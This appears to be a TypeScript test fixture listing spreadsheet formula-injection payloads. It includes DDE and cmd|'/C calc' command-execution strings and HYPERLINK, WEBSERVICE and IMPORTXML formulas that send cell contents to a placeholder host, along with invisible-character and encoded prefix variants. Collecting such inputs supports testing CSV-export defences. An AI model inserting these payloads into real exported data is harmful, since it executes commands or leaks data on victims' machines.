const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\u0000=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '|',
  '%',
];

const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.invalid?x="&A1,"查看")',
  'WEBSERVICE("http://example.invalid")',
  'IMPORTXML(CONCAT("http://example.invalid",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)*cmd|"/C calc"!A0',
];

/** What people have typed into cells to make a spreadsheet run something (P22). */
export const formulaPayloads: readonly string[] = [
  ...signs.flatMap((sign) => bodies.map((body) => sign + body)),
  '_x003D_1+1',
  '_x0009_=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0001=1+1',
];
